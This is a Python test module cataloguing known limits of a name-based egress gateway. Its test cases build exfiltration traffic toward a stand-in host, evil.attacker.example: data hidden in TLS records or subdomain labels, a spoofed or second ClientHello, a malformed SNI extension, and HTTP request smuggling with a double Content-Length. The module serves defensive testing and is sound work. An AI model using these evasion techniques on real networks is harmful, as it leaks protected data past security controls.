"""What gets out past any set of rules that lets the declared names through: the limits of a gateway.

Each is a case of its own, with the reason. They are tried as well: a limit that isn't one any more is to be
taken off the list, and out of what is said about the gateway.
"""

from collections.abc import Iterator

from dpkt import tcp
from gateway_scene import ATTACKER, HELLO, MIRROR_HALL, Case, Scene, carry_on, http, named, opened, tls

from enclave.gateway.traffic.conversations import CLIENT, SERVER, TcpConversation
from enclave.gateway.traffic.flows import Flow
from enclave.gateway.traffic.hello import (
    SERVER_NAME,
    Hello,
    application_data,
    finished,
    record,
    server_hello,
    server_names,
)
from enclave.gateway.traffic.messages import http_request

SECRET = b"personal data of Europeans " * 12
EVIL = HELLO.named(b"evil.attacker.example")


def beyond(scene: Scene) -> Iterator[Case]:
    yield scene.forbidden(
        "a declared name at an attacker's address",
        tls(scene.ends(ATTACKER), HELLO),
        "a service without networks answers anywhere, and the client says the name",
    )
    yield scene.forbidden(
        "anything within TLS records behind a declared hello",
        _within(scene, record(23, SECRET)),
        "what's encrypted and what only looks like it can't be told apart",
    )
    yield scene.forbidden(
        "data in the labels below a declared name",
        named(scene.ends(), "c2vjcmv0lmrhdgegb2ygzxvyb3bl.cdn.example.eu"),
        "the wildcard means every name below it",
    )
    yield scene.forbidden(
        "the first bytes of an undeclared hello", _begun(scene), "a name isn't known before it's complete"
    )
    yield scene.forbidden(
        "a second hello with another name, behind a retry request",
        _second(scene),
        "the engine reads the first hello of a connection",
    )
    yield scene.forbidden(
        "bits in a handshake", _handshake(scene), "a connection begins before it has a name"
    )
    yield scene.forbidden(
        "a list of names that doesn't fit its extension, and a right one elsewhere",
        tls(scene.ends(ATTACKER), _misfit()),
        "which of both is the extension can't be told without reading all of them; servers refuse it",
    )
    if scene.site == "dublin-1":
        yield scene.forbidden(
            "a length that the engine reads and servers refuse",
            http(scene.ends(MIRROR_HALL, 80), _two_lengths()),
            "the engine takes the first number that it finds",
        )
        yield scene.forbidden(
            "anything in the body of a declared request",
            http(scene.ends(MIRROR_HALL, 80), http_request("mirror.example.eu", method="POST", body=SECRET)),
            "a body says what it likes",
        )


def _misfit() -> Hello:
    whole = server_names(b"packages.mirror.example")
    elsewhere = b"\x00\x00" + len(whole).to_bytes(2) + whole
    return HELLO.put(SERVER_NAME, whole + b"evil.attacker.example").put(0x7777, elsewhere)


def _two_lengths() -> bytes:
    inner = http_request("evil.attacker.example")
    lengths = (("Content-Length", f"{len(inner)}, 0"),)
    return http_request("mirror.example.eu", method="POST", headers=lengths) + inner


def _within(scene: Scene, data: bytes) -> TcpConversation:
    talk = opened(scene.ends(ATTACKER))
    talk.say(HELLO.encoded(), payload=False)
    talk.answer(server_hello(HELLO))
    talk.say(finished(), payload=False)
    talk.say(data)
    talk.close()
    return talk


def _begun(scene: Scene) -> TcpConversation:
    talk = opened(scene.ends(ATTACKER))
    talk.segment(CLIENT, EVIL.encoded()[:400])
    talk.control(SERVER, tcp.TH_ACK)
    return talk


def _second(scene: Scene) -> TcpConversation:
    talk = opened(scene.ends(ATTACKER))
    talk.say(HELLO.encoded(), payload=False)
    talk.answer(server_hello(HELLO, flight=40))
    talk.say(bytes.fromhex("140303000101") + EVIL.encoded())
    talk.answer(application_data(900))
    return carry_on(talk)


def _handshake(scene: Scene) -> Flow:
    name = "bits in a handshake"
    talk = opened(scene.ends(ATTACKER))
    return Flow(name=name, packets=talk.flow(name).packets, units=((0,), (2,)))
